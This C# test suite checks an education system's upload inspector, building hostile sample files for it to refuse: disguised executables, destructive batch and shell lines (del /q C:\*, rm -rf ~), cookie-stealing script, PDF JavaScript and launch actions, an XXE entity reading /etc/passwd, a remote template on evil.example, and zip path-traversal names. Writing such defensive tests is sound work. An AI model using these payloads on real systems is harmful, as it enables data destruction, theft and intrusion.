using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using EduDuty.Core.Evidence;
using EduDuty.Testing;

namespace EduDuty.Core.Tests.Evidence;

/// <summary>
/// Issue 24: a file is what it claims. Every hostile file here is built by the test from its format's own bytes (a PE and an
/// ELF header, PDFs with actions, a Word package with a VBA project, a ZIP that climbs out of its folder); the expected codes
/// are the catalogue's. Before issue 24, "%PDF-" anywhere in the first kilobyte made a PDF, names were not compared with the
/// content, and nothing looked inside a PDF or an Office package.
/// </summary>
public sealed class UploadInspectionTests
{
    private const long Limit = 50L << 20;

    private static EvidenceCheck Inspect(string name, byte[] bytes) => EvidenceContent.Inspect(EvidenceFileName.Clean(name), new MemoryStream(bytes), Limit);

    private static byte[] Fixture(string name) => File.ReadAllBytes(RepositoryPaths.Fixture("evidence", name));

    private static void Refused(string code, EvidenceCheck check, string? fileNamed = null)
    {
        Assert.Null(check.Kind);
        Assert.Equal(code, check.Refusal?.Code);
        if (fileNamed is not null) Assert.Contains($"“{fileNamed}”", check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("notice.pdf", "闻喜县民办学校名单.pdf", EvidenceKind.Pdf)]
    [InlineData("notice.docx", "通知.DOCX", EvidenceKind.Docx)]
    [InlineData("table.xlsx", "统计表.xlsx", EvidenceKind.Xlsx)]
    [InlineData("notice.doc", "通知.wps", EvidenceKind.Doc)]
    [InlineData("table.xls", "统计表.et", EvidenceKind.Xls)]
    public void Office_files_and_pdfs_under_a_fitting_name_pass(string fixture, string name, EvidenceKind kind)
    {
        var check = Inspect(name, Fixture(fixture));

        Assert.Null(check.Refusal);
        Assert.Equal(kind, check.Kind);
    }

    // ── Programs, whatever their name ──

    [Fact]
    public void A_windows_program_named_pdf_is_refused_and_so_is_a_pe_pdf_polyglot()
    {
        Refused("upload-executable", Inspect("整改通知.pdf", PortableExecutable()), "整改通知.pdf");
        // "%PDF-" inside the DOS header's first kilobyte: a PDF reader opens it, Windows runs it. Stored as a PDF before.
        Refused("upload-executable", Inspect("整改通知.pdf", PortableExecutable(pdfAt: 0x40)));
        // And the other way round: a PDF that carries a program's DOS stub within its first kilobytes.
        Refused("upload-executable", Inspect("整改通知.pdf", [.. "%PDF-1.4\n%"u8, .. PortableExecutable()]));
    }

    [Theory]
    [InlineData(new byte[] { 0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0 }, "Linux")]
    [InlineData(new byte[] { 0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1 }, "macOS")]
    [InlineData(new byte[] { 0xFE, 0xED, 0xFA, 0xCE, 0, 0, 0, 7 }, "macOS")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2 }, "macOS")]
    public void Elf_and_mach_o_programs_are_refused_even_with_a_pdf_header_inside(byte[] magic, string what)
    {
        var program = magic.Concat(new byte[56]).Concat("%PDF-1.7\n"u8.ToArray()).Concat(new byte[200]).ToArray();

        var check = Inspect("会议纪要.pdf", program);

        Refused("upload-executable", check, "会议纪要.pdf");
        Assert.Contains(what, check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("@echo off\r\ndel /q C:\\*\r\nrem %PDF-1.4", "@echo off")]
    [InlineData("#!/bin/sh\nrm -rf ~ # %PDF-1.4", "#!")]
    [InlineData("%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>", "<script")]
    [InlineData("%PDF-1.4\n%<HTA:APPLICATION ID=\"x\"/>", "<hta:")]
    [InlineData("%PDF-1.4\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>", "<svg")]
    [InlineData("%PDF-1.4\nSet s = CreateObject(\"WScript.Shell\")", "wscript.shell")]
    public void Scripts_and_pages_are_refused_wherever_they_sit_in_the_first_kilobytes(string content, string marker)
    {
        var check = Inspect("通知.pdf", Encoding.UTF8.GetBytes(content));

        Refused("upload-script", check, "通知.pdf");
        Assert.Contains(marker, check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_page_in_utf16_is_refused_as_a_page()
    {
        var page = Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<html><script>alert(1)</script></html>")).ToArray();

        Refused("upload-script", Inspect("通知.pdf", page));
    }

    [Fact]
    public void A_pdf_header_after_other_bytes_is_not_a_pdf_any_more()
    {
        // Was accepted as a PDF when "%PDF-" was anywhere in the first kilobyte.
        Refused("upload-unknown-kind", Inspect("通知.pdf", [.. "GIF89a junk "u8, .. Fixture("notice.pdf")]));
    }

    // ── Names ──

    [Theory]
    [InlineData("整改通知.exe")]
    [InlineData("run.bat")]
    [InlineData("run.CMD")]
    [InlineData("a.js")]
    [InlineData("a.hta")]
    [InlineData("a.html")]
    [InlineData("a.htm")]
    [InlineData("tool.jar")]
    [InlineData("通知.docm")]
    [InlineData("表.xlsm")]
    [InlineData("演示.pptm")]
    [InlineData("屏保.scr")]
    [InlineData("a.ps1")]
    [InlineData("a.vbs")]
    [InlineData("快捷方式.lnk")]
    [InlineData("通知.pdf.exe")]
    public void Program_script_page_and_macro_extensions_are_refused_whatever_the_content(string name)
    {
        Refused("upload-forbidden-extension", Inspect(name, Fixture("notice.pdf")), name);
    }

    [Theory]
    [InlineData("notice.pdf", "通知.docx", ".pdf")]
    [InlineData("notice.docx", "通知.pdf", ".docx")]
    [InlineData("table.xlsx", "统计表.zip", ".xlsx")]
    [InlineData("notice.doc", "通知.xls", ".doc")]
    [InlineData("notice.pdf", "通知.txt", ".pdf")]
    public void A_name_whose_extension_does_not_fit_the_content_is_refused_saying_which_fits(string fixture, string name, string fits)
    {
        var check = Inspect(name, Fixture(fixture));

        Refused("upload-extension-mismatch", check, name);
        Assert.Contains($"改为 {fits}", check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_name_without_an_extension_is_refused()
    {
        Refused("upload-unknown-extension", Inspect("通知", Fixture("notice.pdf")), "通知");
    }

    [Theory]
    [InlineData("CON.pdf", "_CON.pdf")]
    [InlineData("nul", "_nul")]
    [InlineData("com1.tar.gz", "_com1.tar.gz")]
    [InlineData("lpt9 .docx", "_lpt9 .docx")]
    [InlineData("CONFIG.pdf", "CONFIG.pdf")]
    [InlineData("报告<草稿>:第2版?.pdf", "报告_草稿__第2版_.pdf")]
    [InlineData("通\u200B知\uFEFF.pdf", "通知.pdf")]
    [InlineData("名单\u2028.pdf", "名单.pdf")]
    [InlineData("\u202Egpj.exe", "gpj.exe")]
    [InlineData("闻喜县教育局〔2021〕58号 关于…的通知（定稿）.pdf", "闻喜县教育局〔2021〕58号 关于…的通知（定稿）.pdf")]
    [InlineData("..\\..\\Windows\\System32\\通知.pdf", "通知.pdf")]
    [InlineData("通知.pdf. . ", "通知.pdf")]
    public void Stored_names_lose_paths_invisible_characters_and_device_names_and_keep_chinese(string sent, string kept)
    {
        Assert.Equal(kept, EvidenceFileName.Clean(sent));
    }

    [Theory]
    [InlineData("整改通知.exe", EvidenceKind.Pdf, "整改通知.pdf")]
    [InlineData("照片.JPG", EvidenceKind.Jpeg, "照片.JPG")]
    [InlineData("index.html", EvidenceKind.Png, "index.png")]
    [InlineData("通知.wps", EvidenceKind.Doc, "通知.wps")]
    [InlineData("通知", EvidenceKind.Docx, "通知.docx")]
    [InlineData("a/b\\CON.pdf", EvidenceKind.Pdf, "_CON.pdf")]
    public void A_download_takes_the_extension_of_what_the_content_is(string stored, EvidenceKind kind, string served)
    {
        Assert.Equal(served, EvidenceFileName.ForDownload(stored, kind));
    }

    // ── PDFs that act by themselves ──

    [Theory]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "JavaScript")]
    [InlineData("/OpenAction 5 0 R /Names << /JavaScript 6 0 R >>", "JavaScript")]
    [InlineData("/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", "JavaScript")]
    [InlineData("/AA << /O << /JS (this.print\\(\\)) >> >>", "JavaScript")]
    [InlineData("/OpenAction << /S /Launch /F (cmd.exe) >>", "/Launch")]
    [InlineData("/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>", "/EmbeddedFiles")]
    [InlineData("/AcroForm << /XFA 8 0 R >>", "XFA")]
    public void A_pdf_with_javascript_a_launch_action_or_an_embedded_file_is_refused(string catalogEntries, string what)
    {
        var check = Inspect("通知.pdf", Pdf(catalogEntries));

        Refused("upload-pdf-active", check, "通知.pdf");
        Assert.Contains(what, check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_pdf_that_opens_at_a_page_and_names_javascript_only_inside_a_text_stream_passes()
    {
        // /OpenAction to a page view is what most writers put there; "/JS" as bytes of a deflated stream is no action.
        Assert.Equal(EvidenceKind.Pdf, Inspect("通知.pdf", Pdf("/OpenAction [3 0 R /Fit]", stream: "BT (x /JS y) Tj ET")).Kind);
    }

    [Fact]
    public void Javascript_hidden_in_a_deflated_object_stream_is_found()
    {
        var objects = "5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"u8.ToArray();
        using var deflated = new MemoryStream();
        using (var zlib = new ZLibStream(deflated, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(objects);
        var pdf = Encoding.Latin1.GetBytes("%PDF-1.5\n1 0 obj << /Type /Catalog /OpenAction 5 0 R >> endobj\n"
                                           + $"4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {deflated.Length} >> stream\r\n")
            .Concat(deflated.ToArray()).Concat("\r\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"u8.ToArray()).ToArray();
        Assert.DoesNotContain("JavaScript", Encoding.Latin1.GetString(pdf), StringComparison.Ordinal);

        Refused("upload-pdf-active", Inspect("通知.pdf", pdf));
    }

    [Fact]
    public void An_encrypted_pdf_whose_object_streams_cannot_be_read_is_refused_as_uncheckable()
    {
        var pdf = Encoding.Latin1.GetBytes("%PDF-1.6\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 16 >> stream\n"
                                           + "\u0093\u00a1\u0011\u00fe\u0042\u0007\u0099\u00c3\u0012\u0055\u00aa\u0001\u0002\u0003\u0004\u0005"
                                           + "\nendstream endobj\ntrailer << /Encrypt 9 0 R /Root 1 0 R >>\n%%EOF\n");

        Refused("upload-pdf-uncheckable", Inspect("通知.pdf", pdf));
    }

    // ── Office packages ──

    [Fact]
    public void A_word_document_with_a_vba_project_is_refused_as_macros()
    {
        var docm = Package(Fixture("notice.docx"), ("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]));

        Refused("upload-macros", Inspect("通知.docx", docm), "通知.docx");
    }

    [Fact]
    public void A_workbook_whose_content_types_declare_macros_is_refused()
    {
        var xlsm = Package(Fixture("table.xlsx"), rewrite: ("[Content_Types].xml",
            t => t.Replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", StringComparison.Ordinal)));

        Refused("upload-macros", Inspect("统计表.xlsx", xlsm));
    }

    [Fact]
    public void A_word_97_document_with_a_macros_storage_is_refused()
    {
        Assert.Equal(EvidenceKind.Doc, Inspect("通知.doc", TestFiles.CompoundFile("WordDocument")).Kind);
        Refused("upload-macros", Inspect("通知.doc", TestFiles.CompoundFile("WordDocument", "Macros", "VBA")));
    }

    [Fact]
    public void An_office_part_with_a_doctype_or_an_entity_is_refused()
    {
        var docx = Package(Fixture("notice.docx"), rewrite: ("word/document.xml",
            t => t.Replace("?>", "?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>", StringComparison.Ordinal)));

        var check = Inspect("通知.docx", docx);

        Refused("upload-xml-entities", check);
        Assert.Contains("word/document.xml", check.Refusal!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_word_document_with_a_remote_template_is_refused_and_one_with_a_web_link_passes()
    {
        const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        var template = Package(Fixture("notice.docx"), ("word/_rels/settings.xml.rels",
            Encoding.UTF8.GetBytes($"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                   + $"<Relationship Id=\"rId1\" Type=\"{Relationships}/attachedTemplate\" Target=\"\\\\evil.example\\share\\t.dotm\" TargetMode=\"External\"/></Relationships>")));
        var link = Package(Fixture("notice.docx"), ("word/_rels/settings.xml.rels",
            Encoding.UTF8.GetBytes($"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                   + $"<Relationship Id=\"rId1\" Type=\"{Relationships}/hyperlink\" Target=\"https://www.moe.gov.cn/\" TargetMode=\"External\"/></Relationships>")));

        var check = Inspect("通知.docx", template);
        Refused("upload-external-reference", check);
        Assert.Contains("evil.example", check.Refusal!.Text, StringComparison.Ordinal);
        Assert.Equal(EvidenceKind.Docx, Inspect("通知.docx", link).Kind);
    }

    [Fact]
    public void A_powerpoint_package_is_refused_with_save_as_pdf()
    {
        var pptx = Zip(("[Content_Types].xml", "<Types/>"u8.ToArray()), ("ppt/presentation.xml", "<p:presentation/>"u8.ToArray()));

        var check = Inspect("汇报.pptx", pptx);

        Refused("upload-powerpoint", check);
        Assert.Contains("另存为 PDF", check.Refusal!.Text, StringComparison.Ordinal);
    }

    // ── Archives ──

    [Theory]
    [InlineData("../../etc/cron.d/x")]
    [InlineData("照片/../../x.jpg")]
    [InlineData("..\\..\\Windows\\win.ini")]
    [InlineData("/etc/passwd")]
    [InlineData("\\\\server\\share\\x.txt")]
    [InlineData("C:\\Users\\Public\\x.txt")]
    [InlineData("c:x.txt")]
    [InlineData("a/. ./b.txt")]
    public void A_zip_whose_names_climb_out_or_are_absolute_is_refused(string entry)
    {
        var check = Inspect("照片.zip", Zip(("照片/1.txt", "一"u8.ToArray()), (entry, "x"u8.ToArray())));

        Refused("upload-archive-unsafe-name", check, "照片.zip");
    }

    [Fact]
    public void A_zip_holding_a_program_by_name_or_by_content_is_refused_and_a_plain_one_passes()
    {
        Refused("upload-archive-executable", Inspect("材料.zip", Zip(("材料/setup.exe", "x"u8.ToArray()))));
        Refused("upload-archive-executable", Inspect("材料.zip", Zip(("材料/说明.txt", PortableExecutable()))));
        Refused("upload-archive-executable", Inspect("材料.zip", Zip(("材料/说明.txt", "<html><script>alert(1)</script>"u8.ToArray()))));
        Assert.Equal(EvidenceKind.Zip, Inspect("材料.zip", Zip(("材料/说明.txt", "闻喜县"u8.ToArray()), ("材料/通知.pdf", Fixture("notice.pdf")))).Kind);
    }

    // Windows drops trailing dots and blanks from a name when it extracts one, so "run.bat." lands as run.bat: the entry's
    // extension is read as Windows will name the file. The content is a batch file without any marker the sniffing knows.
    [Theory]
    [InlineData("材料/run.bat.")]
    [InlineData("材料/run.bat ")]
    [InlineData("材料/run.cmd. .")]
    [InlineData("材料/a.vbs...")]
    [InlineData("材料/a.ps1 .")]
    public void A_zip_entry_named_as_a_program_behind_trailing_dots_or_blanks_is_refused(string entry)
    {
        var check = Inspect("材料.zip", Zip(("材料/说明.txt", "闻喜县"u8.ToArray()), (entry, "del /q \"%USERPROFILE%\\Documents\\*\"\r\n"u8.ToArray())));

        Refused("upload-archive-executable", check, "材料.zip");
    }

    // The attacker's review: a program two archives down, a macro document inside an archive and archives this inspector cannot
    // open all went through. What a plain archive holds is inspected as an upload of its own, one level deep.
    [Fact]
    public void What_an_archive_holds_inside_another_archive_or_document_is_inspected_one_level_deep()
    {
        var inner = Zip(("工具/setup.exe", "x"u8.ToArray()));
        Refused("upload-archive-executable", Inspect("材料.zip", Zip(("材料/附件.zip", inner))), "材料.zip（材料/附件.zip）");

        var docm = Package(Fixture("notice.docx"), ("word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]));
        Refused("upload-macros", Inspect("材料.zip", Zip(("材料/通知.docx", docm))));

        var clean = Zip(("说明.txt", "闻喜县"u8.ToArray()));
        Refused("upload-archive-nested", Inspect("材料.zip", Zip(("材料/a.zip", Zip(("b.zip", clean))))), "材料.zip（材料/a.zip）");

        Assert.Equal(EvidenceKind.Zip, Inspect("材料.zip", Zip(("材料/附件.zip", clean), ("材料/通知.docx", Fixture("notice.docx")), ("材料/通知.pdf", Fixture("notice.pdf")))).Kind);
    }

    [Theory]
    [InlineData(new byte[] { 0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4 })] // 7z
    [InlineData(new byte[] { 0x52, 0x61, 0x72, 0x21, 0x1A, 0x07, 0, 0 })] // Rar!
    [InlineData(new byte[] { 0x4D, 0x53, 0x43, 0x46, 0, 0, 0, 0 })] // a cabinet
    [InlineData(new byte[] { 0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0 })] // gzip
    public void An_archive_of_another_format_inside_a_zip_is_refused_whatever_its_name(byte[] head)
    {
        var check = Inspect("材料.zip", Zip(("材料/说明.txt", "闻喜县"u8.ToArray()), ("材料/图片.jpg", head)));

        Refused("upload-archive-nested", check, "材料.zip");
    }

    [Fact]
    public void A_zip_with_a_password_is_refused()
    {
        var zip = Zip(("材料/说明.txt", "闻喜县"u8.ToArray()));
        SetEncryptedFlag(zip);

        Refused("upload-archive-encrypted", Inspect("材料.zip", zip));
    }

    // ── Builders ──

    /// <summary>A minimal PE: DOS header (e_lfanew at 0x3C), the DOS stub's text, "PE\0\0" and an i386 COFF header.</summary>
    private static byte[] PortableExecutable(int? pdfAt = null)
    {
        var file = new byte[512];
        "MZ"u8.CopyTo(file);
        BinaryPrimitives.WriteInt32LittleEndian(file.AsSpan(0x3C), 0x80);
        "This program cannot be run in DOS mode.\r\r\n$"u8.CopyTo(file.AsSpan(0x4E));
        if (pdfAt is { } at) "%PDF-1.4"u8.CopyTo(file.AsSpan(at));
        "PE\0\0"u8.CopyTo(file.AsSpan(0x80));
        BinaryPrimitives.WriteUInt16LittleEndian(file.AsSpan(0x84), 0x014C);
        BinaryPrimitives.WriteUInt16LittleEndian(file.AsSpan(0x86), 1);
        return file;
    }

    /// <summary>A small PDF whose catalog holds the entries given, with one page (and a content stream, deflated).</summary>
    private static byte[] Pdf(string catalogEntries, string stream = "BT /F1 12 Tf (Hello) Tj ET")
    {
        using var deflated = new MemoryStream();
        using (var zlib = new ZLibStream(deflated, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(Encoding.Latin1.GetBytes(stream));
        var head = Encoding.Latin1.GetBytes(
            $"%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj << /Type /Catalog /Pages 2 0 R {catalogEntries} >> endobj\n"
            + "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
            + "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >> endobj\n"
            + $"4 0 obj << /Length {deflated.Length} /Filter /FlateDecode >> stream\n");
        var tail = "\nendstream endobj\ntrailer << /Size 5 /Root 1 0 R >>\n%%EOF\n"u8.ToArray();
        return [.. head, .. deflated.ToArray(), .. tail];
    }

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(content);
            }
        }

        return buffer.ToArray();
    }

    /// <summary>A copy of a real Office package with entries added, or one of its parts rewritten.</summary>
    private static byte[] Package(byte[] original, (string Name, byte[] Content)? add = null, (string Name, Func<string, string> Change)? rewrite = null)
    {
        using var buffer = new MemoryStream();
        buffer.Write(original);
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Update, leaveOpen: true))
        {
            if (add is var (name, content))
            {
                archive.GetEntry(name)?.Delete();
                using var stream = archive.CreateEntry(name).Open();
                stream.Write(content);
            }

            if (rewrite is var (part, change))
            {
                var entry = archive.GetEntry(part)!;
                string text;
                using (var reader = new StreamReader(entry.Open())) text = reader.ReadToEnd();
                var changed = change(text);
                Assert.NotEqual(text, changed);
                entry.Delete();
                using var writer = new StreamWriter(archive.CreateEntry(part).Open(), new UTF8Encoding(false));
                writer.Write(changed);
            }
        }

        return buffer.ToArray();
    }

    // Sets "encrypted" (general purpose bit 0) in every local and central header, as a password tool writes it.
    private static void SetEncryptedFlag(byte[] zip)
    {
        for (var i = 0; i + 8 < zip.Length; i++)
        {
            if (zip[i] != 'P' || zip[i + 1] != 'K') continue;
            if (zip[i + 2] == 3 && zip[i + 3] == 4) zip[i + 6] |= 1;
            if (zip[i + 2] == 1 && zip[i + 3] == 2) zip[i + 8] |= 1;
        }
    }
}
